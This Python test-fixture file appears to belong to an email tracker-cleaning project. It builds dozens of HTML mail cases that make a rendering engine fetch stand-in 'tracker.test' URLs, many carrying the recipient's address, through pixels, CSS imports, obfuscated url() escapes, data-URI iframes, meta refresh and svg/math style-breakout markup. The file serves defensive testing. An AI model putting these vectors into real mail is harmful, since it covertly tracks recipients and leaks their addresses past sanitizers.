"""Vector cases for the browser-truth tests: one way for a mail to make an engine fetch a
URL (or to hide or show an image) each, written for this project.

Hosts say what a URL is: anything under `tracker.test` tracks, anything under `content.test`
is content the sender meant the reader to see. Every case's original must make at least one
tracker request in Chromium (else the case proves nothing); after cleaning, none may remain
and every content request must still be made.
"""
from __future__ import annotations

import base64
import urllib.parse

from engine import related, single_part

LEAK = "e=bob%40example.org"  # the recipient's address in a URL: a tracker wherever it loads
CONTENT = '<img src="https://cdn.content.test/hero.jpg" width="600" height="300" alt="Hero">'
# not tiny, not tracking-shaped, on no list: only its context (size, hiding) gives it away
OPAQUE = "https://img.tracker.test/i/Zx8Kq2Lm9Rt4Vb7Np3Wd.gif"


def _data_html(markup: str) -> str:
    return "data:text/html," + urllib.parse.quote(markup)


def _data_html_b64(markup: str) -> str:
    return "data:text/html;base64," + base64.b64encode(markup.encode()).decode()


_SVG_DOC = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
            'width="10" height="10"><image href="https://px.tracker.test/svgpart.png?{LEAK}" '
            'width="10" height="10"/></svg>').replace("{LEAK}", LEAK)
_SVG_DOC_CSS = ('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><style>'
                '@import url(https://px.tracker.test/svgpart.css?{LEAK});</style>'
                '<rect width="10" height="10"/></svg>').replace("{LEAK}", LEAK)

# id -> message bytes
CASES: dict[str, bytes] = {
    # --- images and their attributes
    "img-1x1": single_part('<img src="https://px.tracker.test/o.gif" width="1" height="1">'),
    "img-leak": single_part(f'<img src="https://px.tracker.test/b.png?{LEAK}" width="600">'),
    "img-srcset": single_part(
        f'<img srcset="https://px.tracker.test/s.png?{LEAK} 1x" width="600" height="300">'),
    "img-src-tab-newline": single_part(
        f'<img src="https://px.tracker.\n\ttest/o.gif?{LEAK}" width="600">'),
    "img-protocol-relative": single_part(
        '<img src="//px.tracker.test/pr.gif" width="1" height="1">'),
    "img-base-href": single_part('<img src="open.gif" width="1" height="1">',
                                 head='<base href="https://px.tracker.test/t/">'),
    "img-hidden-style": single_part(f'<img src="{OPAQUE}" width="600" height="300" '
                                    'style="display:none">'),
    "img-hidden-parent": single_part(f'<div style="display:none"><p><img src="{OPAQUE}" '
                                     'width="600" height="300"></p></div>'),
    "img-hidden-class": single_part(f'<div class="x"><img src="{OPAQUE}" width="600"></div>',
                                    head="<style>.x{display:none}</style>"),
    "image-tag": single_part(
        '<image src="https://px.tracker.test/image.gif" width="1" height="1">'),
    "input-image": single_part(
        '<input type="image" src="https://px.tracker.test/in.gif" width="1" height="1">'),
    "picture-source-leak": single_part(
        f'<picture><source srcset="https://px.tracker.test/p.webp?{LEAK}">'
        '<img src="https://cdn.content.test/p.jpg" width="600" height="300"></picture>'),
    "picture-source-tiny-img": single_part(
        f'<picture><source srcset="{OPAQUE}"><img src="https://cdn.content.test/f.gif" '
        'width="1" height="1"></picture>'),
    "picture-source-media-phone": single_part(
        f'<picture><source media="(max-width: 600px)" srcset="https://px.tracker.test/m.png?{LEAK}">'
        '<img src="https://cdn.content.test/wide.jpg" width="600" height="300"></picture>'),
    "video-poster": single_part(f'<video poster="https://px.tracker.test/poster.jpg?{LEAK}"></video>'),
    # --- background attributes and CSS
    "body-background": single_part("hello").replace(
        b"<body>", f'<body background="https://px.tracker.test/bg.png?{LEAK}">'.encode()),
    "td-background": single_part(
        f'<table><tr><td background="https://px.tracker.test/td.png?{LEAK}">x</td></tr></table>'),
    "inline-style-url": single_part(
        f'<div style="background-image:url(https://px.tracker.test/is.png?{LEAK})">x</div>'),
    "inline-style-entities": single_part(
        '<div style="background:url(&quot;https&#58;//px.tracker.test/ent.png?'
        f'{LEAK}&quot;)">x</div>'),
    "inline-style-escapes": single_part(
        f'<div style="background:u\\72l(https://px.tracker.test/esc.png?{LEAK})">x</div>'),
    "inline-list-style": single_part(
        f'<ul style="list-style-image:url(https://px.tracker.test/li.png?{LEAK})"><li>a</li></ul>'),
    "inline-border-image": single_part(
        f'<div style="border:5px solid;border-image:url(https://px.tracker.test/bi.png?{LEAK}) 30">'
        'x</div>'),
    "inline-image-set": single_part(
        '<div style="background-image:image-set(&quot;https://px.tracker.test/set.png?'
        f'{LEAK}&quot; 1x)">x</div>'),
    "style-class-bg": single_part(
        '<div class="b">x</div>',
        head=f"<style>.b{{background:url(https://px.tracker.test/cb.png?{LEAK})}}</style>"),
    "style-import": single_part(
        "x", head='<style>@import url("https://css.tracker.test/i.css");</style>'),
    "style-import-string": single_part(
        "x", head="<style>@import 'https://css.tracker.test/s.css';</style>"),
    "style-font-face": single_part(
        '<p class="f">x</p>',
        head=("<style>@font-face{font-family:T;src:url(https://fonts.tracker.test/f.woff2?"
              f"{LEAK})}}.f{{font-family:T}}</style>")),
    "style-font-face-open-shape": single_part(
        '<p class="f">x</p>',
        head=("<style>@font-face{font-family:T;src:url(https://fonts.tracker.test/open/"
              "Zx8Kq2Lm9Rt4Vb7Np3Wd.woff)}.f{font-family:T}</style>")),
    "style-media-print": single_part(
        '<div class="p">x</div>',
        head="<style>@media print{.p{background:url(https://px.tracker.test/print.png)}}</style>"),
    "style-dark": single_part(
        '<div class="d">x</div>',
        head=("<style>@media (prefers-color-scheme: dark){.d{background:url("
              f"https://px.tracker.test/dark.png?{LEAK})}}}}</style>")),
    "style-before-content": single_part(
        '<p class="c">x</p>',
        head=("<style>.c::before{content:url(https://px.tracker.test/open/"
              "Zx8Kq2Lm9Rt4Vb7Np3Wd.gif)}</style>")),
    "style-before-content-invisible": single_part(
        '<p class="c" style="opacity:0">x</p>',
        head=f"<style>.c::after{{content:url({OPAQUE})}}</style>"),
    "style-media-attr-print": single_part(
        '<div class="q">x</div>',
        head=('<style media="print">.q{background:url(https://px.tracker.test/mp.png)}</style>')),
    "link-stylesheet": single_part(
        "x", head='<link rel="stylesheet" href="https://css.tracker.test/l.css">'),
    "link-stylesheet-data": single_part(
        "x", head=('<link rel="stylesheet" href="data:text/css,'
                   + urllib.parse.quote("@import url(https://css.tracker.test/d.css);") + '">')),
    "import-data": single_part(
        "x", head=("<style>@import url(\"data:text/css,"
                   + urllib.parse.quote("@import url(https://css.tracker.test/d2.css);")
                   + "\");</style>")),
    # --- conditional comments: non-Outlook clients read the downlevel-revealed markup
    "downlevel-revealed": single_part(
        '<!--[if !mso]><!--><img src="https://px.tracker.test/nm.gif" width="1" height="1">'
        "<!--<![endif]-->"),
    # --- elements no mail needs
    "iframe-src": single_part('<iframe src="https://media.tracker.test/frame.html"></iframe>'),
    "iframe-srcdoc": single_part(
        "<iframe srcdoc=\"<img src='https://px.tracker.test/sd.gif'>\"></iframe>"),
    "iframe-data": single_part(
        f'<iframe src="{_data_html("<img src=https://px.tracker.test/fd.gif>")}"></iframe>'),
    "iframe-data-base64": single_part(
        f'<iframe src="{_data_html_b64("<img src=https://px.tracker.test/fb.gif>")}"></iframe>'),
    "frame-in-iframe-srcdoc": single_part(
        "<iframe srcdoc=\"<meta http-equiv=refresh content='0; url=https://px.tracker.test/r2'>\">"
        "</iframe>"),
    "object-data": single_part('<object data="https://media.tracker.test/o.html"></object>'),
    "object-data-html": single_part(
        f'<object data="{_data_html("<img src=https://px.tracker.test/od.gif>")}"></object>'),
    "embed-data-html": single_part(
        f'<embed type="text/html" src="{_data_html("<img src=https://px.tracker.test/ed.gif>")}">'),
    "audio-src": single_part('<audio src="https://media.tracker.test/a.mp3"></audio>'),
    "video-source": single_part(
        '<video><source src="https://media.tracker.test/v.mp4" type="video/mp4"></video>'),
    "link-prefetch": single_part("x", head='<link rel="prefetch" href="https://px.tracker.test/pf">'),
    "link-preload-image": single_part(
        "x", head='<link rel="preload" as="image" href="https://px.tracker.test/pl.png">'),
    "meta-refresh": single_part(
        "x", head='<meta http-equiv="refresh" content="0; URL=https://px.tracker.test/go">'),
    # --- referenced parts
    "cid-stylesheet": related(
        '<p class="k">x</p>', {"css1@x": ("text/css",
                                         "@import url(https://css.tracker.test/cid.css);")},
        head='<link rel="stylesheet" href="cid:css1@x">'),
    "cid-svg-object": related('<object data="cid:svg1@x" type="image/svg+xml"></object>',
                              {"svg1@x": ("image/svg+xml", _SVG_DOC)}),
    "cid-svg-object-css": related('<object data="cid:svg2@x" type="image/svg+xml"></object>',
                                  {"svg2@x": ("image/svg+xml", _SVG_DOC_CSS)}),
    "cid-svg-iframe": related('<iframe src="cid:svg3@x"></iframe>',
                              {"svg3@x": ("image/svg+xml", _SVG_DOC)}),
    # --- SVG and MathML as the engine builds them
    "svg-image-href": single_part(
        f'<svg width="100" height="100"><image href="https://px.tracker.test/si.png?{LEAK}" '
        'width="100" height="100"/></svg>'),
    "svg-image-xlink": single_part(
        '<svg width="100" height="100"><image xlink:href="https://px.tracker.test/sx.png?'
        f'{LEAK}" width="100" height="100"/></svg>'),
    "svg-feimage": single_part(
        '<svg width="100" height="100"><filter id="f"><feImage href="https://px.tracker.test/'
        f'fe.png?{LEAK}"/></filter><rect width="100" height="100" filter="url(#f)"/></svg>'),
    "svg-zero-viewport": single_part(
        f'<svg width="0" height="0"><image href="{OPAQUE}" width="600" height="300"/></svg>'),
    "svg-style-import": single_part(
        '<svg width="10" height="10"><style>@import url(https://css.tracker.test/svg.css);'
        "</style></svg>"),
    "svg-style-breakout": single_part(
        f'<svg><style><img src="https://px.tracker.test/bo.gif?{LEAK}"></style></svg>'),
    "math-style-breakout": single_part(
        f'<math><style><img src="https://px.tracker.test/mb.gif?{LEAK}"></style></math>'),
    "svg-hidden-rect": single_part(
        f'<svg width="100" height="100"><g style="display:none"><image href="{OPAQUE}" '
        'width="100" height="100"/></g></svg>'),
    "office-tag-hides": single_part(
        f'<o:p style="display:none"><img src="{OPAQUE}" width="600" height="300"></o:p>'),
    "vml-tag-hides": single_part(
        f'<v:rect style="display:none"><img src="{OPAQUE}" width="600" height="300"></v:rect>'),
    "hidden-table-cell-img": single_part(
        f'<table style="display:none"><tr><td><img src="{OPAQUE}" width="600" height="300">'
        "</td></tr></table>"),
}

# Content that must survive: id -> message bytes (no tracker in them; every content.test
# request of the original must still be made after cleaning).
CONTENT_CASES: dict[str, bytes] = {
    "plain-content": single_part(CONTENT),
    "mso-only-hide-rule": single_part(
        '<!--[if mso]><style>#nonmso{display:none !important}</style><![endif]-->'
        '<div id="nonmso"><img src="https://cdn.content.test/parcel.jpg" width="245" '
        'height="138"></div>'),
    "foster-parented-out-of-hidden-table": single_part(
        '<table style="display:none"><img src="https://cdn.content.test/foster.jpg" '
        'width="600" height="300"><tr><td>x</td></tr></table>'),
    "image-is-void": single_part(
        '<image style="display:none" src="https://cdn.content.test/spacer.gif" width="600" '
        'height="2"><img src="https://cdn.content.test/after-image.jpg" width="600" '
        'height="300">'),
    "mobile-revealed": single_part(
        '<div class="m" style="display:none"><img src="https://cdn.content.test/mobile.jpg" '
        'width="300" height="200"></div>',
        head="<style>@media (max-width:600px){.m{display:block!important}}</style>"),
    "svg-logo": single_part(
        '<svg width="200" height="50"><image href="https://cdn.content.test/logo.png" '
        'width="200" height="50"/></svg>'),
    "web-font": single_part(
        '<p class="f">x</p>',
        head=("<style>@font-face{font-family:B;src:url(https://fonts.content.test/brand.woff2)}"
              ".f{font-family:B}</style>")),
    "picture-content": single_part(
        '<picture><source srcset="https://cdn.content.test/pic.webp" type="image/webp">'
        '<img src="https://cdn.content.test/pic.jpg" width="600" height="300"></picture>'),
}
for _name, _raw in list(CASES.items()):  # every tracker case also carries a content image
    CASES[_name] = _raw.replace(b"</body>", CONTENT.encode() + b"\n</body>")
